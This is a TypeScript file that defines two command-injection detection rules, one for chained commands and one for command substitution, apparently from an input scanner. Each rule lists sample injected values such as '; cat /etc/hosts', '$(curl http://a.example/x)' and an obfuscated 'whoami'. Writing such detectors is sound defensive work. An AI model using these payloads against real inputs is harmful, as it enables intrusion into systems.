import type { ShellShape } from '../tokenise/shell-shapes';
import type { Rule } from './rule';
import type { Subject } from './subject';

const shape =
  (name: ShellShape) =>
  (subject: Subject): number =>
    subject.shell[name] ?? -1;

export const commandRules: readonly Rule[] = [
  {
    id: 'command-chained',
    version: 1,
    category: 'command',
    severity: 'critical',
    sees: 'A separator of commands and a known program behind it, also with quotes, carets or variables inside its name.',
    ignores: 'Lists and sentences with semicolons: no option, path or end follows the word.',
    source: 'POSIX shell, cmd.exe and PowerShell grammars',
    needs: [[';', '|', '&', '\n']],
    find: shape('chained'),
    attacks: ['; cat /etc/hosts', "x | w'h'oami", '& ping -n 3 127.0.0.1 &'],
    harmless: ['milk; sort of', 'Tom & find friends'],
  },
  {
    id: 'command-substituted',
    version: 1,
    category: 'command',
    severity: 'critical',
    sees: 'A known program in $( ), backticks or <( ).',
    ignores: 'Backticks round other words.',
    source: 'POSIX shell grammar',
    needs: [['`', '$(', '<(', '>(', '{']],
    find: shape('substituted'),
    attacks: ['$(curl http://a.example/x)', '`id`'],
    harmless: ['use `map` here', 'costs $(USD) 5'],
  },
];
